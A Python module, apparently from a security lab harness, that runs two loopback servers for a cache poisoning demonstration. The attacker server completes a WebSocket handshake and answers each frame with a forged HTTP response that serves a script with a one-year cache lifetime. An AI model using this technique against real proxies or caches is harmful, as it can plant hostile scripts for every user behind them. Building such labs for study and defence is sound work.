"""Two web servers of the cache poisoning: the attacker's, and the one whose script is to be replaced. Child processes.

config `mode`:
attacker  shakes hands like any WebSocket server; answers each data frame with one that reads as an HTTP response
origin    serves the script at every path over plain HTTP
config `body`: the script that it hands out.
"""

from __future__ import annotations

from typing import Any

from labs.net.streams import Stream, listen
from labs.net.tap import Tap
from labs.net.tasks import Tasks
from labs.wire.frames import CLOSE, TEXT, FrameDecoder, encode_frame, is_control
from labs.wire.handshake import accept_headers, build_response
from labs.wire.http_head import parse_head


async def start(tap: Tap, tasks: Tasks, config: dict[str, Any]) -> dict[str, str]:
    """Listen on a free port of loopback."""
    headers = [("Content-Type", "text/javascript"), ("Cache-Control", "max-age=31536000")]
    response = build_response(200, "OK", headers, config["body"].encode())

    async def attack(stream: Stream) -> None:
        head = parse_head(await stream.read_head())
        key = head.get("Sec-WebSocket-Key") or ""
        await stream.write(build_response(101, "Switching Protocols", accept_headers(key)))
        decoder = FrameDecoder()
        while data := await stream.read():
            for cut in decoder.feed(data):
                if cut.frame.opcode == CLOSE:
                    await stream.write(encode_frame(CLOSE, cut.frame.payload))
                    return
                if not is_control(cut.frame.opcode):
                    await stream.write(encode_frame(TEXT, response))

    async def serve(stream: Stream) -> None:
        while await stream.read_head():
            await stream.write(response)

    return {"main": await listen(tap, tasks, attack if config["mode"] == "attacker" else serve)}
